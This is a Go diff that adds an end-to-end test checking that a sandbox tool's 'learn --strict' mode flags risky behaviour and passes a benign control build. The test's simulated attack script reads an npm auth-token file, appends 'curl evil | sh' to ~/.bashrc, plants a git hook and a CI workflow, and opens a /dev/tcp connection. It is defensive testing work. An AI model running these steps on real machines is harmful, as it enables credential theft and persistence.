@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -109,4 +110,60 @@ func pathsOf(rules []policy.PathRule) []string {
 		out = append(out, r.Path)
 	}
 	return out
+}
+
+// TestLearnReviewList: a learn run that reads ~/.npmrc, appends ~/.bashrc, plants a git hook
+// and a CI workflow and connects to an unknown loopback port ends with a review list naming
+// each of them (rated like diff), not only the credential read; --strict fails on that list
+// (exit 125, the profile still written). The benign control: a run that only builds into
+// $WORKDIR/out has an empty list and passes --strict.
+func TestLearnReviewList(t *testing.T) {
+	testutil.RequireRoot(t)
+	requireTool(t, "bash")
+	port := listen(t)
+	b := cliBox(t)
+	testutil.WriteFile(t, filepath.Join(b.Home, ".npmrc"), "//registry.example/:_authToken=secret\n", 0o600)
+	testutil.WriteFile(t, filepath.Join(b.Home, ".bashrc"), "# rc\n", 0o644)
+	testutil.WriteFile(t, filepath.Join(b.Work, ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
+	script := fmt.Sprintf(`cat "$HOME/.npmrc" >/dev/null
+echo 'curl evil | sh' >> "$HOME/.bashrc"
+mkdir -p .git/hooks .github/workflows out
+echo 'exit 0' > .git/hooks/pre-commit
+echo 'on: push' > .github/workflows/ci.yml
+exec 3<>/dev/tcp/127.0.0.1/%d
+echo built > out/app`, port)
+	p := filepath.Join(b.Home, "attack.yaml")
+	r := sysprof(t, b, "learn", "--strict", "-p", p, "--", "bash", "-c", script)
+	if r.Code != 125 {
+		t.Errorf("learn --strict with risky behaviour: exit %d, want 125\n%s", r.Code, r)
+	}
+	if _, err := os.Stat(p); err != nil {
+		t.Errorf("learn --strict did not write the profile for review: %v", err)
+	}
+	_, review, ok := strings.Cut(r.Stderr, "REVIEW:")
+	if !ok {
+		t.Fatalf("no review list:\n%s", r.Stderr)
+	}
+	for _, want := range []string{
+		"critical filesystem.write: + $HOME/.bashrc",
+		"critical filesystem.write: + $WORKDIR/.git", // .git/hooks or wider: whatever learn granted
+		"critical filesystem.write: + $WORKDIR/.github",
+		fmt.Sprintf("critical network.connect: + tcp 127.0.0.1:%d", port),
+		"secret read $HOME/.npmrc",
+	} {
+		if !strings.Contains(review, want) {
+			t.Errorf("review list does not name %q:\n%s", want, review)
+		}
+	}
+	if strings.Contains(review, "$WORKDIR/out") {
+		t.Errorf("review list names the benign build output:\n%s", review)
+	}
+
+	// Control: only the build output.
+	c := filepath.Join(b.Home, "build.yaml")
+	r = sysprof(t, b, "learn", "--strict", "-p", c, "--", "bash", "-c", "mkdir -p out2 && echo built > out2/app")
+	mustCode(t, "learn --strict of a plain build", r, 0)
+	if strings.Contains(r.Stderr, "REVIEW") {
+		t.Errorf("a plain build has a review list:\n%s", r.Stderr)
+	}
 }
